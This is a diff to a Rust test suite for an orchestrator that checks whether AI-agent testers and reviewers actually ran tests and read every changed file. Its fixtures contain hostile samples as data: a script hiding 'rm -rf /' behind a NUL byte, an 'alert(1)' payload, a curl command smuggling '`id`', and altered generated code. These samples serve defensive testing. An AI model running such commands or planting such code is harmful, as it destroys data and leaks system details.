@@ -11,6 +11,7 @@ use orchestrator::artifact::{self, Conclusion, Judgement};
 use orchestrator::clock::Timestamp;
 use orchestrator::context::{self, Handoff, Inclusion};
 use orchestrator::event::Change;
+use orchestrator::git::workspace::Changes;
 use orchestrator::ids::Digest;
 use orchestrator::role::{self, Role};
 use orchestrator::run::State;
@@ -172,6 +173,7 @@ fn a_plan_is_published() {
     let scene = Scene::parser();
     let judgement = scene.judge("planner", &plan(), &record(&[("rg parse src", 0, "x")])).unwrap();
     assert_eq!(judgement.conclusion, Conclusion::Conclusive);
+    assert!(judgement.favourable);
     assert_eq!(judgement.headline, "1 step: Numbers are read with `parse`, blanks around them allowed.");
     insta::assert_snapshot!("page_plan", scene.page("planner", false, &judgement));
 
@@ -181,6 +183,10 @@ fn a_plan_is_published() {
         json!([{"question": "Are signs allowed?", "why": "The type follows.", "options": ["yes", "no"]}]);
     let judgement = scene.judge("planner", &asking, &[]).unwrap();
     assert_eq!(judgement.questions, ["Are signs allowed? (yes / no)"]);
+    // Rows that follow a planner do not start from a plan that waits for an answer.
+    assert_eq!(reasons(&judgement), "a question is open: Are signs allowed? (yes / no)");
+    assert!(!judgement.favourable);
+    assert_eq!(judgement.headline, "inconclusive: a question is open: Are signs allowed? (yes / no)");
     insta::assert_snapshot!("page_plan_asks_rehearsal", scene.page("planner", true, &judgement));
 }
 
@@ -273,7 +279,7 @@ fn a_pass_needs_a_test_that_was_executed() {
     assert_eq!(lied.answer["ran"][0]["exit_code"], json!(101), "the record's exit code is published");
 
     for (commands, why) in [
-        (&[("cargo test", 0, "test result: ok. 0 passed; 0 failed\n")][..], "executed no test"),
+        (&[("cargo test", 0, "test result: ok. 0 passed; 0 failed\n")][..], "shows no executed test"),
         (&[("cargo test --no-run", 0, "")], "no test command"),
         (&[("cargo test; true", 0, ONE_PASSED)], "no test command"),
         (&[("cargo test", 0, ONE_PASSED), ("cargo test", 101, "FAILED")], "ended with 101"),
@@ -287,6 +293,116 @@ fn a_pass_needs_a_test_that_was_executed() {
     assert!(reasons(&judge(&also, &[("cargo test", 0, ONE_PASSED)])).contains("claims what the record does not show"));
     let given_up = judge(&report("inconclusive", &[], &[]), &[]);
     assert!(reasons(&given_up).starts_with("the tester came to no verdict"));
+}
+
+#[test]
+fn a_dry_run_is_no_test_and_a_suite_has_to_say_that_it_tested() {
+    let scene = Scene::parser();
+    let judge = |line: &str, output: &str| {
+        scene.judge("tester", &report("pass", &[], &[]), &record(&[(line, 0, output)])).unwrap()
+    };
+    for line in ["make test -n", "npm test --if-present", "mvn test -DskipTests", "go test -c", "pytest --collect-only"]
+    {
+        let dry = judge(line, "ok\n");
+        assert!(reasons(&dry).contains(&format!("`{line}` may have skipped them")), "{}", reasons(&dry));
+        assert!(!dry.favourable);
+    }
+    for line in ["cargo test", "go test ./...", "pytest", "python3 -m unittest"] {
+        assert!(reasons(&judge(line, "done\n")).contains("shows no executed test"), "{line}");
+    }
+    assert!(judge("make test", "done\n").favourable, "what make prints cannot tell");
+    // Listed is not enough: what executes tests is known.
+    let asked = record(&[("cat tests/parse.rs", 0, "x")]);
+    let judged = scene.judge("tester", &report("pass", &[], &[]), &asked).unwrap();
+    assert_eq!(reasons(&judged), "the record shows no test command that was executed");
+    // A failure counts, whatever stands beside it.
+    let failed = record(&[("cargo test --no-run", 101, "error"), ("cargo test --lib", 0, ONE_PASSED)]);
+    let judged = scene.judge("tester", &report("pass", &[], &[]), &failed).unwrap();
+    assert_eq!(reasons(&judged), "`cargo test --no-run` ended with 101");
+}
+
+#[test]
+fn a_pass_and_an_approval_are_about_the_files_of_the_commit() {
+    let scene = Scene::parser();
+    let edited = Changes { tracked: vec!["tests/parse.rs".to_owned()], new: vec!["tests/easy.rs".to_owned()] };
+    let tests = record(&[("cargo test", 0, ONE_PASSED)]);
+    let pass = report("pass", &[ran("cargo test", 0)], &[]);
+    let judgement = scene.judge_in(&edited, "tester", &pass, &tests).unwrap();
+    assert_eq!(reasons(&judgement), "the checkout did not hold the commit any more: `tests/parse.rs` changed");
+    assert!(!judgement.favourable);
+    assert_eq!(judgement.evidence.changed_in_checkout, edited.tracked);
+    insta::assert_snapshot!("page_report_of_other_files", scene.page("tester", false, &judgement));
+    let judgement = scene.judge_in(&edited, "architect", &check("approve", &[]), &[]).unwrap();
+    assert!(reasons(&judgement).contains("`tests/parse.rs` changed"));
+    // What does not speak for the change stands.
+    let revise = check("revise", &[finding(2, "    text.trim().parse().unwrap()")]);
+    let judgement = scene.judge_in(&edited, "architect", &revise, &[]).unwrap();
+    assert_eq!((&judgement.conclusion, judgement.favourable), (&Conclusion::Conclusive, false));
+
+    let left = Changes { tracked: Vec::new(), ..edited };
+    let judgement = scene.judge_in(&left, "tester", &pass, &tests).unwrap();
+    assert!(judgement.favourable);
+    assert!(scene.page("tester", false, &judgement).contains("\n- Left in the checkout: `tests/easy.rs`.\n"));
+}
+
+#[test]
+fn code_does_not_hide_behind_a_name_or_a_nul() {
+    let approve = |scene: &Scene, commands: &[(&str, i32, &str)]| {
+        scene.judge("architect", &check("approve", &[]), &record(commands)).unwrap()
+    };
+    let before = [("src/a.rs", "1\n"), ("auth_pb2.py", "x = 1\n")];
+    let after = [
+        ("src/a.rs", "2\n"),
+        ("auth_pb2.py", "import os\n"),
+        ("web/a.min.js", "alert(1)\n"),
+        ("run", "#!/bin/sh\n# \0\nrm -rf /\n"),
+        ("logo.png", "\u{89}PNG\0"),
+        ("Cargo.lock", "v2\n"),
+    ];
+    let scene = Scene::new(&before, &after, "feat: harmless");
+    let blind = approve(&scene, &[]);
+    assert_eq!(reasons(&blind), "code that is generated or binary was not read: `auth_pb2.py`, `web/a.min.js`, `run`");
+    assert!(!blind.favourable);
+    assert_eq!(blind.evidence.files_skipped.len(), 5);
+    insta::assert_snapshot!("page_check_of_hidden_code", scene.page("architect", false, &blind));
+    // What is new may be opened as a file; of what was there, only a patch shows what is gone.
+    let new = [("cat web/a.min.js", 0, "alert(1)\n"), ("cat -A run", 0, "#!/bin/sh$\n")];
+    let one = approve(&scene, &[new[0], new[1], ("cat auth_pb2.py", 0, "import os\n")]);
+    assert_eq!(reasons(&one), "code that is generated or binary was not read: `auth_pb2.py`");
+    let patch = "diff --git a/auth_pb2.py b/auth_pb2.py\n--- a/auth_pb2.py\n+++ b/auth_pb2.py\n@@ -1 +1 @@\n-x = 1\n+import os\n";
+    let all = approve(&scene, &[new[0], new[1], ("git show HEAD -- auth_pb2.py", 0, patch)]);
+    assert!(all.favourable, "{}", reasons(&all));
+    assert_eq!(all.evidence.files_skipped.len(), 2);
+}
+
+#[test]
+fn what_was_executed_beyond_the_list_is_on_the_page() {
+    let scene = Scene::parser();
+    let long = format!("python3 -c '{}'", "print(1);".repeat(40));
+    let mut commands =
+        vec![("cargo test", 0, ONE_PASSED), ("curl http://example.org/`id`", 6, ""), (long.as_str(), 0, "")];
+    commands.extend(["rm a", "rm b", "rm c", "rm d"].map(|line| (line, 0, "")));
+    let pass = report("pass", &[ran("cargo test", 0)], &[]);
+    let judgement = scene.judge("tester", &pass, &record(&commands)).unwrap();
+    assert_eq!(judgement.evidence.unlisted.len(), 6);
+    assert!(judgement.favourable, "told, and the verdict stands");
+    insta::assert_snapshot!("page_report_beyond_the_list", scene.page("tester", false, &judgement));
+}
+
+#[test]
+fn a_change_of_several_commits_is_not_read_by_showing_the_last() {
+    let long = "pub fn f() {}\n".repeat(20_000);
+    let one = Scene::new(&[("a", "1")], &[("src/a.rs", &long)], "feat: much");
+    let (base, middle) = (one.change.base.clone(), one.change.head.clone());
+    let head = one.fixture.commit("src/a.rs", format!("{long}pub fn g() {{}}\n")).parse().unwrap();
+    let scene = Scene { fixture: one.fixture, change: Change { base, head } };
+    let patch = "diff --git a/src/a.rs b/src/a.rs\n--- a/src/a.rs\n+++ b/src/a.rs\n@@ -1 +1 @@\n-x\n+y\n";
+    let approve = |line: &str| scene.judge("architect", &check("approve", &[]), &record(&[(line, 0, patch)])).unwrap();
+    assert!(!approve("git show HEAD").favourable);
+    assert!(!approve("git diff HEAD~1 HEAD").favourable);
+    assert!(approve("git diff HEAD~2 HEAD").conclusion != Conclusion::Conclusive, "only a parent is counted back");
+    assert!(approve(&format!("git diff {} HEAD", scene.change.base.as_ref().unwrap())).favourable);
+    assert!(!approve(&format!("git diff {middle} HEAD")).favourable);
 }
 
 #[test]
@@ -333,7 +449,7 @@ fn an_answer_that_does_not_fit_comes_back_with_what_is_wrong() {
     for text in ["", "  ", "looks good", "[]", "null", "{\"summary\": 1", "{}{}"] {
         let context = scene.package("planner", &[]).context;
         let role = Role::find("planner").unwrap();
-        let found = artifact::judge(role, text, &context, &[], &scene.repository(), &scene.change.head);
+        let found = scene.judge_text(&Changes::default(), role, text, &context, &[]);
         assert_eq!(found.unwrap_err().len(), 1, "{text:?}");
     }
 }
@@ -484,7 +600,7 @@ mod properties {
     #[test]
     fn no_answer_makes_us_panic_and_no_page_is_broken() {
         let scene = Scene::parser();
-        let repository = scene.repository();
+        let checkout = Changes { tracked: Vec::new(), new: vec!["a\\nb".to_owned()] };
         let contexts: Vec<_> = role::NAMES.iter().map(|role| (*role, scene.package(role, &[]).context)).collect();
         let commands = record(&[("cargo test", 0, ONE_PASSED)]);
         let layout = Layout::new(&scene.fixture.work);
@@ -501,9 +617,7 @@ mod properties {
                     let answers = [text.clone(), value.to_string(), spoilt(good, at, &leaf).to_string()];
                     for answer in answers {
                         let role = Role::find(role).unwrap();
-                        let Ok(judgement) =
-                            artifact::judge(role, &answer, context, &commands, &repository, &scene.change.head)
-                        else {
+                        let Ok(judgement) = scene.judge_text(&checkout, role, &answer, context, &commands) else {
                             continue;
                         };
                         prop_assert!(!judgement.headline.contains('\n'));
